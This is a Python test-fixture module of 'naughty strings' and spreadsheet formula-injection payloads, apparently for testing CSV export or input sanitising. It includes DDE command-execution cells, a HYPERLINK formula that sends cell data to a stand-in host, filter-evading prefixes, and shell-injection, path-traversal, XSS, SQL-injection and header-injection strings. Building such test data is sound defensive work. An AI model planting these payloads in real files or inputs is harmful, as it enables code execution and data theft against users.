"""Strings that have broken somebody's program, and cells that a spreadsheet would run; all written by ourselves."""

from __future__ import annotations

BODIES = (
    '=HYPERLINK("http://gainline.invalid/?x="&A1,"open")',
    "=1+1",
    "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://gainline.invalid")',
    '=IMPORTXML("http://gainline.invalid","//a")',
    "=DDE('a','b','c')",
    "+1+cmd|' /C calc'!A0",
    "+A1",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "=",
    "==1",
    "=\x001",
    "+-1",
    "1-2=\x00",
)
BEFORE = (
    "",
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\x00",
    "\x0b",
    "\x1f",
    "\u00a0",
    "\u200b",
    "\u2003",
    "\ufeff",
    "\u202e",
    "\u00ad",
)
PAYLOADS = (
    *(f"{before}{body}" for before in BEFORE for body in BODIES[:13]),
    *BODIES[13:],
    "\uff1d1+1", "\uff0b1+A1", "\uff0d1+A1", "\uff20SUM(1)", "\ufe661+1", "\ufe62A1", "\ufe63A1", "\ufe6bSUM(1)",
    " \uff1d1+1", "\t\uff20SUM(1)", "\tplain", "\rplain", "\nplain", "\x00plain", '"=1+1"', "'=1+1", "a,=1+1",
    "a\n=1+1", "a;=1+1", "%0A=1+1", "=1+1\r\n=2+2",
)  # fmt: skip
"""More than the forty that are asked for: every body behind every blank, TAB, CR, full-width signs, quotes."""

STRINGS = (
    "", " ", "  x  ", "undefined", "null", "NULL", "None", "nil", "NaN", "Infinity", "-Infinity", "true", "false",
    "0", "-0", "1", "-1", "+1", "1.00", "$1.00", "1/2", "1E2", "1E+02", "-1.5e-3", ".5", "-.5", "+.5", "1_000", "1,000",
    "1 000", "0x0", "0xffffffff", "007", "00012", "99999999999999999999", "3-Apr", "1:05:30", "2026-02-30", "50%",
    "-50%", "--1", "-", "+", "@", "--", "---", "/", "\\", "\\n", "\\\\", "%s%s%n", "{0}", "{{7*7}}", "{% debug %}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "`id`", "$(id)", "; ls", "| ls", "&& ls", "../../etc/passwd", "..\\..\\x",
    "CON", "NUL", "aux.csv", "file:///etc/passwd", "javascript:alert(1)", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "&lt;b&gt;", "&#x41;", "<!--", "-->", "]]>",
    "' OR 1=1 --", "1; DROP TABLE student", "Robert'); --", "%27", "''", '""', '"', "'", "'tis", "O'Brien", 'say "so"',
    "a\"b", "a'b", "a,b", "a;b", "a\tb", "a\nb", "a\r\nb", "a\rb", "\x07", "\x1b[31mred", "a\x00b", "\x7f", "\x80\x9f",
    "\u0085", "\u2028", "\u2029", "\ufffe", "\ufeffx", "\u200bx", "\u200e\u200f", "\u202edesrever", "\u2066x\u2069",
    "\u00e9", "e\u0301", "\u00df", "\u0130", "\u0131", "\ufb03", "\u1e9e", "\u03a3\u03c2", "\u4e2d\u6587", "\uc0ac",
    "\u0627\u0644\u0639", "\u05d0\u05d1", "\u0e01\u0e33", "\u0939\u093f", "\u1112\u1161\u11ab", "Z\u0351\u036b\u0343a",
    "\U0001f469\U0001f3fd\u200d\U0001f3eb", "\U0001f1fa\U0001f1f8", "\u2764\ufe0f", "\U00010330", "\U0001d54f",
    "\u00bd", "\u00b2", "\u0663", "\u2212" + "5", "\u00ad", "\u034f", "x" * 40_000, "a b" * 3_000, "\u00e9" * 5_000,
    "http://a.invalid/?q=1&r=2", "mailto:a@b.invalid", "a@b.invalid", "#REF!", "#N/A", "#DIV/0!", "R1C1", "A1", "$A$1",
    "[a](javascript:x)", "**b**", "_c_", "---\na: b", "key: value", "key = 'value'", "[table]", "# heading", "//", "/*",
    "union select", "\\u0000", "\\x00", "%00", "%0d%0aSet-Cookie: a=b", "\r\nX-Header: a", "Content-Length: 0",
)  # fmt: skip
EVERYTHING = (*STRINGS, *PAYLOADS)
